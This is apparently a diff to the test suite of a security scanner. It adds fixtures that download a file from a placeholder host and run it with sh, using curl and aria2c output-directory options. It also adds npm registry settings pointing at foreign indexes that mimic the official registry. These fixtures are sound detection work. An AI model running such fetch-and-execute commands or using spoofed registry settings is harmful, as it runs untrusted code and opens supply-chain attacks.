@@ -258,6 +258,9 @@ def test_command_in_text_that_a_shell_would_not_run_gives_no_mention(text):
         "curl http://e/x > f; prlimit --nofile=100 sh f",
         '/lib64/ld-linux-x86-64.so.2 /bin/sh -c "$(curl http://e/x)"',
         "curl http://e/x > f; /lib64/ld-linux-x86-64.so.2 /bin/sh f",
+        "curl --output-dir d -O http://e/x; sh d/x",
+        "curl --output-dir d -o f http://e/x; sh d/f",
+        "aria2c --dir=d -o f http://e/x; sh d/f",
         "curl http://e/x | cat > f; sh f",
         "curl http://e/x | tee f > /dev/null; sh f",
         "curl http://e/x > f; cat f* | sh",
@@ -411,7 +414,16 @@ def test_command_of_a_desktop_entry_is_reported(read_bytes):
 
 
 def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
-    assert list_mentions(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
+    for address in (
+        "https://e.invalid/",
+        "https://e.invalid/?://registry.npmjs.org",
+        "https://registry.npmjs.org.e.invalid/",
+    ):
+        assert list_mentions(read_bytes(f"registry={address}\n".encode(), ".npmrc")) == [("index", address)]
+
+
+def test_default_package_index_of_npm_gives_no_mention(read_bytes):
+    assert list_mentions(read_bytes(b"registry=https://registry.npmjs.org/\n", ".npmrc")) == []
 
 
 def test_package_index_in_pip_conf_is_reported_under_every_key_spelling_of_pip(read_bytes):
